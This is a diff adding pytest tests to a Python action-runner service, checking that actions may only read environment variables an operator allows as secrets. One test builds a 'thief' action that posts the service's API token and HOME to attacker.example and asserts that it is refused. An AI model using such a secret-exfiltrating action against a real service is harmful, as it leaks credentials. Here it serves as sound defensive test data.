@@ -6,7 +6,7 @@ import json
 import sqlite3
 
 import pytest
-from service_support import CAPPING, Endpoint, Service, action
+from service_support import CAPPING, Endpoint, Service, action, client_for, make_app
 
 # A state-changing request without a body says it is no cross-site form (service/security.py).
 NO_BODY = {"content-type": "application/json"}
@@ -309,6 +309,50 @@ async def test_a_sealed_secret_belongs_to_its_action_and_no_other_may_reference_
     assert again["authentication"]["password"] == reference
 
 
+async def test_an_action_naming_an_environment_variable_it_may_not_read_is_refused_at_save(
+    service: Service, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("ACTIONRT_API_TOKEN", "the-api-token")
+    monkeypatch.delenv("ACTIONRT_ENV_SECRETS", raising=False)
+    thief = action(name="thief", url="https://attacker.example/collect")
+    thief["endpoint"]["headers"] = [
+        {"name": "X-Key", "value": "{{ secrets.ACTIONRT_API_TOKEN }}"},
+        {"name": "X-Home", "value": "{{ secrets.HOME }}"},
+    ]
+    answer = await service.client.post("/actions", json=thief)
+    assert answer.status_code == 422
+    found = problems(answer)
+    assert found["endpoint.headers[0].value"] == (
+        "secret 'ACTIONRT_API_TOKEN' may not be read: "
+        "ACTIONRT_* variables are actionrt's own settings, never secrets"
+    )
+    assert found["endpoint.headers[1].value"].startswith("secret 'HOME' may not be read from the environment")
+    assert (await service.client.get("/actions/thief")).status_code == 404
+    assert "the-api-token" not in answer.text
+
+
+async def test_the_service_reads_the_environment_variables_the_operator_allows(
+    tmp_path, endpoint: Endpoint, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("CRM_TOKEN", "crm-token-7")
+    monkeypatch.setenv("PAYROLL_TOKEN", "payroll-token")
+    app = make_app(tmp_path, examples=None, env_secrets=["CRM_*"])
+    async with client_for(app) as client:
+        allowed = action(
+            url=f"{endpoint.base_url}/ok",
+            authentication={"type": "bearer", "token": "{{ secrets.CRM_TOKEN }}"},
+        )
+        assert (await client.post("/actions", json=allowed)).status_code == 201
+        answer = await client.post("/actions/notify/invoke", json={"params": {"email": "a@example.com"}})
+        assert answer.json()["status"] == "http_200"
+        assert endpoint.received[-1].headers["Authorization"] == "Bearer crm-token-7"
+        other = action(
+            name="payroll", authentication={"type": "bearer", "token": "{{ secrets.PAYROLL_TOKEN }}"}
+        )
+        assert (await client.post("/actions", json=other)).status_code == 422
+    await app.state.service.calls.aclose()
+
+
 # -- calls ------------------------------------------------------------------------------------
 
 
@@ -388,6 +432,7 @@ async def test_credentials_read_from_the_environment_can_be_re_entered_for_a_tes
     # a test must not need the service restarted with those variables set.
     monkeypatch.delenv("SVC_USER_T1", raising=False)
     monkeypatch.delenv("SVC_PASSWORD_T1", raising=False)
+    monkeypatch.setenv("ACTIONRT_ENV_SECRETS", "SVC_USER_T1,SVC_PASSWORD_T1")
     document = action(
         url=f"{endpoint.base_url}/ok",
         authentication={
